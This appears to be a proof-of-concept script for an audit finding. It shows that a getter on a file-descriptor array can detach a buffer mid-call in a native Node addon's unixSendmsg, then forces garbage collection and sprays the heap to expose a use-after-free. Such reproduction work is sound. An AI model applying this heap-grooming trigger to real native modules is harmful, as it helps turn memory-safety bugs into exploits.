/* global structuredClone */
// Finding 3: a getter of the fds array detaches the data buffer before the send.
const { a, attempt, seqpacketPair } = require('./addon.cjs');

const [c, s] = seqpacketPair('sendmsg');
const data = new Uint8Array(256).fill(0x41);
const fds = [];
Object.defineProperty(fds, 0, {
  enumerable: true,
  get() {
    structuredClone(data.buffer, { transfer: [data.buffer] });
    globalThis.gc();
    for (let i = 0; i < 64; i++) new Uint8Array(256).fill(0x42);
    return 0;
  },
});
const sent = attempt(() => a.unixSendmsg(c, data, fds));
const got = a.unixRecvmsg(s, new Uint8Array(256), 4);
for (const fd of got.fds) a.close(fd);
console.log(JSON.stringify({ sent, detached: data.byteLength === 0, received: got.bytes }));
